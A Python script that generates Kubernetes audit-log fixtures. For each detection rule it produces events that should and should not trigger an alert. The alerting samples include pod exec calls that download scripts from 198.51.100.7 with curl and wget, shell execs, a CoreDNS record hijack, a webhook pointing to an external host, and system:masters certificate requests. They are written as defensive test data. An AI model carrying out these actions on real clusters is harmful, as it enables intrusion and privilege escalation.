#!/usr/bin/env python3
# Writes events/<rule>.json (events that must and must not raise each rule of the default pack)
# and routine.jsonl (the bulk of a real audit stream, for the benchmarks), shaped as the
# API server writes audit.k8s.io/v1 events. Run from anywhere: python3 gen_events.py
# (it rewrites the files; audit IDs and times are deterministic).
import json, uuid, copy, os, urllib.parse
OUT=os.path.join(os.path.dirname(os.path.abspath(__file__)), 'events')
n=[0]
def ts():
    n[0]+=1
    s=n[0]
    return "2026-11-23T10:%02d:%02d.%06dZ" % ((s//60)%60, s%60, (s*7919)%1000000)
GROUPS={'system:serviceaccount':None}
def ev(verb, resource, ns="", name="", sub="", user="alice@example.com", groups=None, code=None, stage="ResponseComplete",
       level="Request", req=None, resp=None, uri=None, imp=None, ann=None, group="", version="v1", ua="kubectl/v1.37.2 (linux/amd64) kubernetes/abc1234", ip="10.0.4.17", query="",
       msg=None, decision=None):
    # msg: the refusal's status message; decision: "allow" for a request authorization let
    # through and admission or validation refused (the default follows the code)
    if groups is None:
        if user.startswith("system:serviceaccount:"):
            groups=["system:serviceaccounts","system:serviceaccounts:"+user.split(":")[2],"system:authenticated"]
        elif user.startswith("system:node:"):
            groups=["system:nodes","system:authenticated"]
        elif user=="system:anonymous":
            groups=["system:unauthenticated"]
        else:
            groups=["developers","system:authenticated"]
    if code is None:
        code={"create":201}.get(verb,200)
        if sub in ("exec","attach","portforward","proxy") and stage=="ResponseStarted":
            code=101
    if uri is None:
        base="/api/v1" if group=="" else "/apis/%s/%s"%(group,version)
        path=base
        if ns: path+="/namespaces/"+ns
        path+="/"+resource
        if name and verb not in ("create",) or (name and sub): path+="/"+name
        if sub: path+="/"+sub
        if verb in ("list","watch") and not name: pass
        if verb=="watch": query=(query+"&" if query else "")+"watch=true"
        uri=path+("?"+query if query else "")
    e={"kind":"Event","apiVersion":"audit.k8s.io/v1","level":level,"auditID":str(uuid.UUID(int=n[0]*7777777+12345)),
       "stage":stage,"requestURI":uri,"verb":verb,"user":{"username":user,"groups":groups},
       "sourceIPs":[ip],"userAgent":ua,
       "objectRef":{"resource":resource,"apiVersion":version}}
    if ns: e["objectRef"]["namespace"]=ns
    if name: e["objectRef"]["name"]=name
    if sub: e["objectRef"]["subresource"]=sub
    if group: e["objectRef"]["apiGroup"]=group
    if user.startswith("system:serviceaccount:"):
        e["user"]["extra"]={"authentication.kubernetes.io/pod-name":["web-7d9c-x2x"],"authentication.kubernetes.io/pod-uid":["1c0f1d47-8a35-4bb3-9f5b-4ad0d1c2e8a2"]}
        e["userAgent"]="python-requests/2.32.3"
        e["sourceIPs"]=["10.244.1.23"]
    if imp:
        e["impersonatedUser"]=imp
    status={"metadata":{},"code":code}
    if code>=400:
        status["status"]="Failure"
        status["reason"]={403:"Forbidden",404:"NotFound",409:"AlreadyExists",422:"Invalid",400:"BadRequest"}.get(code,"")
        status["message"]="%s \"%s\" is %s" % (resource, name, status["reason"].lower()) if msg is None else msg
    e["responseStatus"]=status
    if req is not None: e["requestObject"]=req
    if resp is not None: e["responseObject"]=resp
    t=ts()
    e["requestReceivedTimestamp"]=t; e["stageTimestamp"]=t
    allowed=code!=403 if decision is None else decision=="allow"
    a={"authorization.k8s.io/decision":"allow" if allowed else "forbid","authorization.k8s.io/reason":"RBAC: allowed by ClusterRoleBinding \"developers\" of ClusterRole \"edit\" to Group \"developers\"" if allowed else ""}
    if ann: a.update(ann)
    e["annotations"]=a
    return e

def pod(name, ns, spec_extra=None, containers=None, volumes=None, kind="Pod"):
    c=containers or [{"name":"app","image":"registry.example.com/shop/web:1.4.2","ports":[{"containerPort":8080,"protocol":"TCP"}],
        "resources":{"limits":{"cpu":"500m","memory":"256Mi"}},
        "securityContext":{"runAsNonRoot":True,"allowPrivilegeEscalation":False,"readOnlyRootFilesystem":True,"capabilities":{"drop":["ALL"]}}}]
    spec={"containers":c,"serviceAccountName":"web","securityContext":{"seccompProfile":{"type":"RuntimeDefault"}}}
    if volumes: spec["volumes"]=volumes
    if spec_extra: spec.update(spec_extra)
    meta={"name":name,"namespace":ns,"labels":{"app":name}}
    if kind=="Pod":
        return {"kind":"Pod","apiVersion":"v1","metadata":meta,"spec":spec}
    tmpl={"metadata":{"labels":{"app":name}},"spec":spec}
    if kind=="CronJob":
        return {"kind":"CronJob","apiVersion":"batch/v1","metadata":meta,"spec":{"schedule":"*/5 * * * *","jobTemplate":{"spec":{"template":tmpl}}}}
    api={"Deployment":"apps/v1","DaemonSet":"apps/v1","StatefulSet":"apps/v1","Job":"batch/v1"}[kind]
    return {"kind":kind,"apiVersion":api,"metadata":meta,"spec":{"selector":{"matchLabels":{"app":name}},"template":tmpl}}

def podev(obj, verb="create", user="alice@example.com", code=None, body=True, **kw):
    # body=False: refused by authorization, which records no request object
    kind=obj["kind"]
    res={"Pod":"pods","Deployment":"deployments","DaemonSet":"daemonsets","StatefulSet":"statefulsets","Job":"jobs","CronJob":"cronjobs"}[kind]
    grp={"Pod":"","Deployment":"apps","DaemonSet":"apps","StatefulSet":"apps","Job":"batch","CronJob":"batch"}[kind]
    return ev(verb,res,obj["metadata"]["namespace"],obj["metadata"]["name"],user=user,code=code,req=obj if body else None,group=grp,**kw)

def ctr(name="app", image="registry.example.com/shop/web:1.4.2", sc=None, ports=None):
    c={"name":name,"image":image}
    if sc is not None: c["securityContext"]=sc
    if ports: c["ports"]=ports
    return c

F={}
def fx(rule, alert, quiet):
    F[rule]={"alert":alert,"quiet":quiet}

def execev(ns, name, cmd, user="alice@example.com", code=None, stage="ResponseStarted", container="app"):
    q="&".join("command="+urllib.parse.quote(c,safe="") for c in cmd)+"&container="+container+"&stdin=true&stdout=true&tty=true"
    return ev("create","pods",ns,name,sub="exec",user=user,code=code,stage=stage,level="Metadata",query=q)

SA_CTRL="system:serviceaccount:kube-system:replicaset-controller"
# ---- exec
fx("pod-exec",[execev("shop","web-7d9c-x2x",["ls","/app"]),execev("shop","db-0",["psql","-U","shop"],user="bob")],
   [execev("shop","web-7d9c-x2x",["ls"],code=403),execev("shop","web-7d9c-x2x",["ls"],stage="ResponseComplete"),
    ev("get","pods","shop","web-7d9c-x2x",level="Metadata")])
fx("pod-exec-shell",[execev("shop","web-7d9c-x2x",["/bin/sh","-c","id"]),execev("shop","web-7d9c-x2x",["bash"])],
   [execev("shop","web-7d9c-x2x",["ls","/bin/sh"]),execev("shop","web-7d9c-x2x",["sh"],code=403)])
fx("pod-exec-network-tool",[execev("shop","web-7d9c-x2x",["curl","-s","http://198.51.100.7/x.sh"]),execev("shop","web-7d9c-x2x",["/usr/bin/wget","http://198.51.100.7/m"])],
   [execev("shop","web-7d9c-x2x",["cat","/etc/hosts"]),execev("shop","web-7d9c-x2x",["curl","x"],code=403)])
fx("pod-exec-kube-system",[execev("kube-system","coredns-5d78c9869d-abcde",["sh"])],
   [execev("shop","web-7d9c-x2x",["sh"]),execev("kube-system","coredns-5d78c9869d-abcde",["sh"],code=403)])
att=lambda ns,name,code=None,stage="ResponseStarted": ev("create","pods",ns,name,sub="attach",code=code,stage=stage,level="Metadata",query="container=app&stdin=true&stdout=true&tty=true")
fx("pod-attach",[att("shop","web-7d9c-x2x")],[att("shop","web-7d9c-x2x",code=403),att("shop","web-7d9c-x2x",stage="ResponseComplete")])
pf=lambda ns,name,code=None,stage="ResponseStarted",user="alice@example.com": ev("create","pods",ns,name,sub="portforward",code=code,stage=stage,level="Metadata",user=user)
fx("pod-portforward",[pf("shop","db-0"),pf("monitoring","grafana-0",user="ops@example.com")],[pf("shop","db-0",code=403),ev("get","pods","shop","db-0",level="Metadata")])
eph=pod("web-7d9c-x2x","shop",spec_extra={"ephemeralContainers":[{"name":"debugger-x7k2p","image":"busybox:1.36","stdin":True,"tty":True,"targetContainerName":"app"}]})
fx("ephemeral-container",[ev("patch","pods","shop","web-7d9c-x2x",sub="ephemeralcontainers",req={"spec":{"ephemeralContainers":[{"name":"debugger-x7k2p","image":"busybox:1.36"}]}},resp=eph)],
   [ev("patch","pods","shop","web-7d9c-x2x",sub="ephemeralcontainers",code=403),ev("patch","pods","shop","web-7d9c-x2x",req={"metadata":{"labels":{"tier":"web"}}})])
# ---- pods
benign=pod("web","shop")
benign_dep=pod("web","shop",kind="Deployment")
priv=pod("debug","shop",containers=[ctr(sc={"privileged":True})])
fx("privileged-container",[podev(priv),podev(pod("node-agent","monitoring",kind="DaemonSet",containers=[ctr("agent","quay.io/example/agent:2.1",sc={"privileged":True})])),
   podev(pod("backup","ops",kind="CronJob",containers=[ctr("backup","ops/backup:3",sc={"privileged":True})]))],
   [podev(benign),podev(benign_dep),podev(priv,code=403),podev(pod("x","shop",containers=[ctr(sc={"privileged":False})]))])
fx("host-network",[podev(pod("net","shop",spec_extra={"hostNetwork":True})),podev(pod("net","shop",kind="Deployment",spec_extra={"hostNetwork":True}))],
   [podev(benign),podev(pod("net","shop",spec_extra={"hostNetwork":False})),podev(pod("net","shop",spec_extra={"hostNetwork":True}),user=SA_CTRL)])
fx("host-pid",[podev(pod("pid","shop",spec_extra={"hostPID":True}))],[podev(benign),podev(pod("pid","shop",spec_extra={"hostPID":True}),code=403)])
fx("host-ipc",[podev(pod("ipc","shop",kind="StatefulSet",spec_extra={"hostIPC":True}))],[podev(benign),podev(pod("ipc","shop",spec_extra={"hostIPC":False}))])
hp=lambda p:[{"name":"host","hostPath":{"path":p,"type":"Directory"}}]
fx("sensitive-hostpath",[podev(pod("h","shop",volumes=hp("/"))),podev(pod("h","shop",volumes=hp("/var/run/docker.sock"))),podev(pod("h","shop",kind="Deployment",volumes=hp("/etc/kubernetes/pki"))),podev(pod("h","shop",volumes=hp("/var/lib/kubelet")))],
   [podev(benign),podev(pod("h","shop",volumes=hp("/data/shop"))),podev(pod("h","shop",volumes=hp("/etcetera"))),podev(pod("h","shop",volumes=[{"name":"tmp","emptyDir":{}}]))])
capc=lambda caps: [ctr(sc={"capabilities":{"add":caps}})]
fx("dangerous-capabilities",[podev(pod("c","shop",containers=capc(["SYS_ADMIN"]))),podev(pod("c","shop",containers=capc(["NET_BIND_SERVICE","CAP_SYS_PTRACE"]))),podev(pod("c","shop",kind="Job",containers=capc(["ALL"])))],
   [podev(benign),podev(pod("c","shop",containers=capc(["NET_BIND_SERVICE"])))])
fx("host-port",[podev(pod("hp","shop",containers=[ctr(ports=[{"containerPort":80,"hostPort":80}])]))],
   [podev(benign),podev(pod("hp","shop",containers=[ctr(ports=[{"containerPort":80}])]))])
fx("pod-in-kube-system",[podev(pod("helper","kube-system")),podev(pod("helper","kube-system",kind="DaemonSet"))],
   [podev(pod("coredns-5d78c9869d-abcde","kube-system"),user=SA_CTRL),podev(pod("kube-apiserver-node1","kube-system"),user="system:node:node1"),podev(benign)])
fx("pod-in-kube-public",[podev(pod("helper","kube-public"))],[podev(benign),podev(pod("helper","kube-public"),code=403)])
fx("crypto-miner-image",[podev(pod("m","shop",containers=[ctr(image="docker.io/minerhub/xmrig:6.21")])),podev(pod("m","shop",kind="Deployment",containers=[ctr(image="ghcr.io/x/CPUMiner-opt:latest")]))],
   [podev(benign),podev(pod("m","shop",containers=[ctr(image="docker.io/library/minecraft-server:1.21")]))])
pv=lambda spec: {"kind":"PersistentVolume","apiVersion":"v1","metadata":{"name":"pv-data"},"spec":dict({"capacity":{"storage":"10Gi"},"accessModes":["ReadWriteOnce"]},**spec)}
fx("persistentvolume-hostpath",[ev("create","persistentvolumes",name="pv-data",req=pv({"hostPath":{"path":"/etc"}}))],
   [ev("create","persistentvolumes",name="pv-data",req=pv({"nfs":{"server":"10.0.0.5","path":"/exports"}})),ev("create","persistentvolumes",name="pv-data",req=pv({"hostPath":{"path":"/etc"}}),code=403)])
# ---- rbac
R="rbac.authorization.k8s.io"
def cr(name, rules, kind="ClusterRole", ns=None):
    o={"kind":kind,"apiVersion":R+"/v1","metadata":{"name":name},"rules":rules}
    if ns: o["metadata"]["namespace"]=ns
    return o
def crev(obj, verb="create", user="alice@example.com", code=None, body=True, **kw):
    res={"ClusterRole":"clusterroles","Role":"roles","ClusterRoleBinding":"clusterrolebindings","RoleBinding":"rolebindings"}[obj["kind"]]
    return ev(verb,res,obj["metadata"].get("namespace",""),obj["metadata"]["name"],user=user,code=code,req=obj if body else None,group=R,**kw)
viewer=cr("pod-viewer",[{"apiGroups":[""],"resources":["pods","pods/log"],"verbs":["get","list","watch"]}])
fx("clusterrole-wildcard",[crev(cr("ops-all",[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}])),crev(cr("deploy",[{"apiGroups":["apps"],"resources":["deployments"],"verbs":["*"]}]),verb="update")],
   [crev(viewer),crev(cr("system:aggregate-to-view",[{"apiGroups":["*"],"resources":["*"],"verbs":["get"]}]),user="system:apiserver")])
fx("role-wildcard",[crev(cr("all",[{"apiGroups":[""],"resources":["*"],"verbs":["get","list"]}],kind="Role",ns="shop"))],
   [crev(cr("read",[{"apiGroups":[""],"resources":["configmaps"],"verbs":["get"]}],kind="Role",ns="shop"))])
fx("clusterrole-pod-exec",[crev(cr("debugger",[{"apiGroups":[""],"resources":["pods","pods/exec"],"verbs":["get","create"]}]))],
   [crev(viewer),crev(cr("execlist",[{"apiGroups":[""],"resources":["pods/exec"],"verbs":["list"]}]))])
fx("clusterrole-write-sensitive",[crev(cr("secret-writer",[{"apiGroups":[""],"resources":["secrets"],"verbs":["create","update"]}])),crev(cr("rbac-admin",[{"apiGroups":[R],"resources":["clusterrolebindings"],"verbs":["create"]}]))],
   [crev(viewer),crev(cr("cm-writer",[{"apiGroups":[""],"resources":["configmaps"],"verbs":["create","update"]}]))])
fx("clusterrole-escalation-verbs",[crev(cr("escalator",[{"apiGroups":[R],"resources":["clusterroles"],"verbs":["escalate","bind"]}])),crev(cr("imp",[{"apiGroups":[""],"resources":["users","groups"],"verbs":["impersonate"]}],kind="Role",ns="shop"))],
   [crev(viewer)])
fx("clusterrole-secrets-read",[crev(cr("secret-reader",[{"apiGroups":[""],"resources":["secrets"],"verbs":["get","list"]}]))],
   [crev(viewer),crev(cr("secret-reader",[{"apiGroups":[""],"resources":["secrets"],"verbs":["get"]}]),code=403)])
def crb(name, role, subjects, kind="ClusterRoleBinding", ns=None):
    o={"kind":kind,"apiVersion":R+"/v1","metadata":{"name":name},"roleRef":{"apiGroup":R,"kind":"ClusterRole","name":role},"subjects":subjects}
    if ns: o["metadata"]["namespace"]=ns
    return o
U=lambda n: {"kind":"User","apiGroup":R,"name":n}
G=lambda n: {"kind":"Group","apiGroup":R,"name":n}
SA=lambda ns,n: {"kind":"ServiceAccount","namespace":ns,"name":n}
fx("binding-cluster-admin",[crev(crb("eve-admin","cluster-admin",[U("eve@example.com")])),crev(crb("ci","cluster-admin",[SA("ci","deployer")],kind="RoleBinding",ns="ci"))],
   [crev(crb("view","view",[U("eve@example.com")])),crev(crb("eve-admin","cluster-admin",[U("eve@example.com")]),code=403)])
fx("binding-broad-group",[crev(crb("open","view",[G("system:unauthenticated")])),crev(crb("all","edit",[G("system:authenticated")],kind="RoleBinding",ns="shop"))],
   [crev(crb("view","view",[G("developers")]))])
fx("binding-default-serviceaccount",[crev(crb("d","edit",[SA("shop","default")],kind="RoleBinding",ns="shop"))],
   [crev(crb("d","view",[SA("shop","default")],kind="RoleBinding",ns="shop")),crev(crb("d","edit",[SA("shop","web")],kind="RoleBinding",ns="shop"))])
fx("system-rbac-modified",[crev(cr("system:node",[{"apiGroups":["*"],"resources":["*"],"verbs":["*"]}]),verb="update"),ev("patch","clusterrolebindings","","system:basic-user",group=R,req={"subjects":[{"kind":"User","name":"eve"}]})],
   [crev(cr("system:aggregate-to-edit",[{"apiGroups":[""],"resources":["pods"],"verbs":["get"]}]),verb="update",user="system:apiserver"),crev(cr("app-role",[]),verb="update")])
fx("system-rbac-deleted",[ev("delete","clusterroles","","system:node-proxier",group=R),ev("delete","clusterrolebindings","","system:kube-scheduler",group=R)],
   [ev("delete","clusterroles","","app-role",group=R),ev("delete","clusterroles","","system:node-proxier",group=R,code=403)])
sa=lambda ns,n: {"kind":"ServiceAccount","apiVersion":"v1","metadata":{"name":n,"namespace":ns}}
fx("serviceaccount-in-kube-system",[ev("create","serviceaccounts","kube-system","metrics-helper",req=sa("kube-system","metrics-helper"))],
   [ev("create","serviceaccounts","shop","web",req=sa("shop","web")),ev("create","serviceaccounts","kube-system","attachdetach-controller",user="system:kube-controller-manager",req=sa("kube-system","attachdetach-controller"))])
# ---- secrets
fx("secret-read-by-user",[ev("get","secrets","shop","db-credentials",level="Metadata"),ev("get","secrets","shop","db-credentials",level="Metadata",user="admin",imp={"username":"mallory","groups":["system:authenticated"]})],
   [ev("get","secrets","shop","db-credentials",level="Metadata",user="system:serviceaccount:shop:web"),ev("get","secrets","shop","db-credentials",level="Metadata",user="system:node:node1"),ev("get","secrets","shop","db-credentials",level="Metadata",code=403)])
fx("secret-list-all-namespaces",[ev("list","secrets",level="Metadata"),ev("watch","secrets",level="Metadata",user="system:serviceaccount:tools:scanner")],
   [ev("list","secrets","shop",level="Metadata"),ev("list","secrets",level="Metadata",user="system:kube-controller-manager"),ev("list","secrets",level="Metadata",code=403)])
fx("secret-access-denied",[ev("get","secrets","kube-system","bootstrap-token-abcdef",level="Metadata",code=403,user="system:serviceaccount:shop:web"),ev("list","secrets",level="Metadata",code=403)],
   [ev("get","secrets","shop","db-credentials",level="Metadata"),ev("get","configmaps","shop","app",level="Metadata",code=403)])
cm=lambda ns,n,data: {"kind":"ConfigMap","apiVersion":"v1","metadata":{"name":n,"namespace":ns},"data":data}
fx("configmap-credentials",[ev("create","configmaps","shop","app-config",req=cm("shop","app-config",{"DB_HOST":"db","DB_PASSWORD":"s3cr3t"})),
   ev("update","configmaps","shop","app-config",req=cm("shop","app-config",{"aws":"aws_access_key_id = AKIAIOSFODNN7EXAMPLE"})),
   ev("create","configmaps","shop","tls",req=cm("shop","tls",{"key.pem":"-----BEGIN RSA PRIVATE KEY-----\nMIIEow==\n-----END RSA PRIVATE KEY-----\n"}))],
   [ev("create","configmaps","shop","app-config",req=cm("shop","app-config",{"DB_HOST":"db","LOG_LEVEL":"info"})),ev("create","configmaps","shop","app-config",req=cm("shop","app-config",{"DB_PASSWORD":"x"}),code=403)])
fx("coredns-configmap-changed",[ev("update","configmaps","kube-system","coredns",req=cm("kube-system","coredns",{"Corefile":".:53 {\n  hosts {\n    198.51.100.7 shop-db.shop.svc.cluster.local\n    fallthrough\n  }\n  forward . /etc/resolv.conf\n}\n"})),ev("patch","configmaps","kube-system","coredns",req={"data":{"Corefile":"x"}})],
   [ev("update","configmaps","shop","coredns",req=cm("shop","coredns",{})),ev("get","configmaps","kube-system","coredns",level="Metadata"),ev("update","configmaps","kube-system","coredns",user="system:kube-controller-manager",req=cm("kube-system","coredns",{}))])
tr={"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","spec":{"audiences":["https://kubernetes.default.svc"],"expirationSeconds":3600}}
fx("serviceaccount-token-requested",[ev("create","serviceaccounts","kube-system","clusterrole-aggregation-controller",sub="token",level="Metadata"),ev("create","serviceaccounts","shop","web",sub="token",level="Metadata",user="system:serviceaccount:ci:deployer")],
   [ev("create","serviceaccounts","shop","web",sub="token",level="Metadata",user="system:node:node1"),ev("create","serviceaccounts","shop","web",sub="token",level="Metadata",code=403)])
fx("secret-deleted-in-kube-system",[ev("delete","secrets","kube-system","bootstrap-token-abcdef",level="Metadata")],
   [ev("delete","secrets","shop","old",level="Metadata"),ev("delete","secrets","kube-system","bootstrap-token-abcdef",level="Metadata",user="system:kube-controller-manager")])
# ---- network
svc=lambda ns,n,spec: {"kind":"Service","apiVersion":"v1","metadata":{"name":n,"namespace":ns},"spec":dict({"selector":{"app":n},"ports":[{"port":80,"targetPort":8080}]},**spec)}
fx("nodeport-service",[ev("create","services","shop","web-np",req=svc("shop","web-np",{"type":"NodePort"})),ev("patch","services","shop","web",req={"spec":{"type":"NodePort"}})],
   [ev("create","services","shop","web",req=svc("shop","web",{})),ev("create","services","shop","web",req=svc("shop","web",{"type":"ClusterIP"}))])
fx("loadbalancer-service",[ev("create","services","shop","web-lb",req=svc("shop","web-lb",{"type":"LoadBalancer"}))],
   [ev("create","services","shop","web",req=svc("shop","web",{"type":"ClusterIP"}))])
fx("service-external-ips",[ev("create","services","shop","mitm",req=svc("shop","mitm",{"externalIPs":["8.8.8.8"]}))],
   [ev("create","services","shop","web",req=svc("shop","web",{"externalIPs":[]})),ev("create","services","shop","web",req=svc("shop","web",{}))])
N="networking.k8s.io"
ing=lambda tls: {"kind":"Ingress","apiVersion":N+"/v1","metadata":{"name":"shop","namespace":"shop"},"spec":dict({"ingressClassName":"nginx","rules":[{"host":"shop.example.com","http":{"paths":[{"path":"/","pathType":"Prefix","backend":{"service":{"name":"web","port":{"number":80}}}}]}}]},**({"tls":[{"hosts":["shop.example.com"],"secretName":"shop-tls"}]} if tls else {}))}
fx("ingress-without-tls",[ev("create","ingresses","shop","shop",group=N,req=ing(False))],[ev("create","ingresses","shop","shop",group=N,req=ing(True))])
fx("nodes-proxy",[ev("get","nodes","","node1",sub="proxy",stage="ResponseStarted",level="Metadata",uri="/api/v1/nodes/node1/proxy/run/kube-system/kube-proxy-x/kube-proxy?cmd=id"),ev("create","nodes","","node1",sub="proxy",stage="ResponseStarted",level="Metadata",uri="/api/v1/nodes/node1/proxy/exec/shop/web/app?command=sh")],
   [ev("get","nodes","","node1",sub="proxy",stage="ResponseStarted",level="Metadata",code=403),ev("get","nodes","","node1",level="Metadata")])
fx("pod-service-proxy",[ev("get","services","shop","web",sub="proxy",stage="ResponseStarted",level="Metadata",uri="/api/v1/namespaces/shop/services/web/proxy/admin"),ev("get","pods","shop","web-7d9c-x2x",sub="proxy",stage="ResponseStarted",level="Metadata")],
   [ev("get","services","kube-system","metrics-server",sub="proxy",stage="ResponseStarted",level="Metadata",user="system:serviceaccount:monitoring:prometheus"),ev("get","services","shop","web",level="Metadata")])
# ---- auth
fx("anonymous-request-allowed",[ev("list","pods","shop",user="system:anonymous",level="Metadata"),ev("get","secrets","kube-system","x",user="system:anonymous",level="Metadata")],
   [ev("get","",user="system:anonymous",level="Metadata",uri="/healthz"),ev("list","pods","shop",user="system:anonymous",level="Metadata",code=403),ev("get","",user="system:anonymous",level="Metadata",uri="/version?timeout=32s")])
fx("impersonation",[ev("get","pods","shop","web",user="alice@example.com",imp={"username":"bob@example.com"},level="Metadata")],
   [ev("get","pods","shop","web",level="Metadata"),ev("get","pods","shop","web",imp={"username":"bob@example.com"},code=403,level="Metadata")])
fx("impersonate-privileged",[ev("list","secrets",imp={"username":"admin","groups":["system:masters"]},level="Metadata"),ev("get","nodes","","node1",imp={"username":"system:node:node1","groups":["system:nodes"]},level="Metadata")],
   [ev("get","pods","shop","web",imp={"username":"bob@example.com","groups":["developers"]},level="Metadata")])
# PKCS#10 requests as spec.request holds them (base64 of the PEM), made with
# openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj SUBJECT
CSR_ALICE="LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIck1JR1RBZ0VBTURFeEdqQVlCZ05WQkFNTUVXRnNhV05sUUdWNFlXMXdiR1V1WTI5dE1STXdFUVlEVlFRSwpEQXBrWlhabGJHOXdaWEp6TUZrd0V3WUhLb1pJemowQ0FRWUlLb1pJemowREFRY0RRZ0FFRDBlZm5wdUI0NTJzCkZKbWQ1ZVBhOHAycUluTEZISjllTEsrekEreUpIL1ZLWFZmSmFaT2x6a3BNT2lDcXpNdlF3cTU2dFh3RXg1R1gKd091QkFEQkx3cUFBTUFvR0NDcUdTTTQ5QkFNQ0EwY0FNRVFDSUdiRVRhbVNGd2t4RGtycnQ4Y2RBd1NLT1R5VQo1bzN2Mld6RnAvcTZyM1o1QWlBWTZINlQ5YXcvZUt3V0pqdUMweHg1aStpUjF0UzZPVWxYM2JtdkdMZjhydz09Ci0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo="  # /CN=alice@example.com/O=developers
CSR_EVE_MASTERS="LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlIaU1JR0pBZ0VBTUNjeEREQUtCZ05WQkFNTUEyVjJaVEVYTUJVR0ExVUVDZ3dPYzNsemRHVnRPbTFoYzNSbApjbk13V1RBVEJnY3Foa2pPUFFJQkJnZ3Foa2pPUFFNQkJ3TkNBQVJ2dGR1VWg5TnlCbjgwcVN2bmw3cldDamR5CjhZRmw5VFY5SWRITFMyaFJ4czJCUyt1eC9OSmxkc09sd3prZDg0RlRiOENoei9NN041UzRBaGFMMEYrVW9BQXcKQ2dZSUtvWkl6ajBFQXdJRFNBQXdSUUloQU1JSUhReHFYb2xWRERORHZocGY3cXdRZjFDdXBoQzRHV3pBdzY1VApoc2VNQWlBSC9JdXdkR093MmRPdDFOVDV1RnRCaWl6Ykp0L2hsVnJ6NWEzbGpmd2dLdz09Ci0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo="  # /CN=eve/O=system:masters
CSR_MALLORY_MASTERS="LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlINk1JR2lBZ0VBTUVBeEVEQU9CZ05WQkFNTUIyMWhiR3h2Y25reEV6QVJCZ05WQkFvTUNtUmxkbVZzYjNCbApjbk14RnpBVkJnTlZCQW9NRG5ONWMzUmxiVHB0WVhOMFpYSnpNRmt3RXdZSEtvWkl6ajBDQVFZSUtvWkl6ajBECkFRY0RRZ0FFd0h1MXc3VHRWaG1TSDU5UTRyQzIvdnJveGpzcW8vd3R6bTZSUTJERWVCNkFRaEhaTnM3STBBTDkKYnZhTVhMZG53WjR2MmxDcyt0SEI4TnFjWjRlb3pxQUFNQW9HQ0NxR1NNNDlCQU1DQTBjQU1FUUNJQlRad2E2cQpCK3dyVmppOUtSbi92eE5UKzA3R2U1VzZibFZkU3Z3cTlDQVFBaUE4YzdZNlFMUW9jVk9JdmFia2dBRWJCcHh4CjZnNmpSWG5WRTd2NmZqaWZjQT09Ci0tLS0tRU5EIENFUlRJRklDQVRFIFJFUVVFU1QtLS0tLQo="  # /CN=mallory/O=developers/O=system:masters
def csrobj(name, request, signer="kubernetes.io/kube-apiserver-client"):
    return {"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{"name":name},"spec":{"request":request,"signerName":signer,"usages":["client auth"]}}
csr=csrobj("eve-admin",CSR_ALICE)
C="certificates.k8s.io"
fx("csr-created",[ev("create","certificatesigningrequests","","eve-admin",group=C,req=csr)],
   [ev("create","certificatesigningrequests","","node-csr-abc",group=C,user="system:node:node1",req=csr),ev("create","certificatesigningrequests","","node-csr-abc",group=C,user="system:bootstrap:abcdef",groups=["system:bootstrappers"],req=csr)])
fx("csr-approved",[ev("update","certificatesigningrequests","","eve-admin",sub="approval",group=C,req=csr)],
   [ev("update","certificatesigningrequests","","node-csr-abc",sub="approval",group=C,user="system:kube-controller-manager",req=csr),ev("update","certificatesigningrequests","","eve-admin",sub="approval",group=C,code=403)])
A="authorization.k8s.io"
fx("permission-enumeration",[ev("create","selfsubjectrulesreviews",group=A,user="system:serviceaccount:shop:web",level="Metadata",req={"kind":"SelfSubjectRulesReview","apiVersion":A+"/v1","spec":{"namespace":"shop"}})],
   [ev("create","selfsubjectrulesreviews",group=A,req={"kind":"SelfSubjectRulesReview","apiVersion":A+"/v1","spec":{"namespace":"shop"}})])
# ---- admission
AR="admissionregistration.k8s.io"
mwc={"kind":"MutatingWebhookConfiguration","apiVersion":AR+"/v1","metadata":{"name":"inject"},"webhooks":[{"name":"inject.example.com","clientConfig":{"url":"https://198.51.100.7/mutate"},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods"]}],"sideEffects":"None","admissionReviewVersions":["v1"]}]}
fx("mutating-webhook-changed",[ev("create","mutatingwebhookconfigurations","","inject",group=AR,req=mwc)],
   [ev("get","mutatingwebhookconfigurations","","inject",group=AR,level="Metadata"),ev("create","mutatingwebhookconfigurations","","inject",group=AR,req=mwc,code=403)])
vwc=dict(mwc,kind="ValidatingWebhookConfiguration")
fx("validating-webhook-changed",[ev("patch","validatingwebhookconfigurations","","policy",group=AR,req={"webhooks":[{"name":"policy.example.com","failurePolicy":"Ignore"}]})],
   [ev("patch","validatingwebhookconfigurations","","policy",group=AR,user="system:serviceaccount:kube-system:replicaset-controller",req={})])
fx("admission-webhook-deleted",[ev("delete","validatingwebhookconfigurations","","moat",group=AR),ev("delete","mutatingwebhookconfigurations","","inject",group=AR)],
   [ev("delete","validatingwebhookconfigurations","","moat",group=AR,code=404)])
fx("admission-policy-changed",[ev("delete","validatingadmissionpolicies","","require-labels",group=AR),ev("patch","validatingadmissionpolicybindings","","require-labels",group=AR,req={"spec":{"validationActions":["Audit"]}})],
   [ev("create","validatingadmissionpolicies","","require-labels",group=AR,req={}),ev("delete","validatingadmissionpolicies","","x",group=AR,code=403)])
fx("pss-violation",[podev(pod("priv","shop",containers=[ctr(sc={"privileged":True})]),ann={"pod-security.kubernetes.io/enforce-policy":"baseline:latest","pod-security.kubernetes.io/audit-violations":"would violate PodSecurity \"restricted:latest\": privileged (container \"app\" must not set securityContext.privileged=true)"})],
   [podev(benign,ann={"pod-security.kubernetes.io/enforce-policy":"restricted:latest"})])
fx("pss-exemption-used",[podev(pod("p","kube-system"),user="ops@example.com",ann={"pod-security.kubernetes.io/exempt":"namespace"})],
   [podev(benign,ann={"pod-security.kubernetes.io/enforce-policy":"restricted:latest"})])
nsobj=lambda labels: {"kind":"Namespace","apiVersion":"v1","metadata":{"name":"shop","labels":labels}}
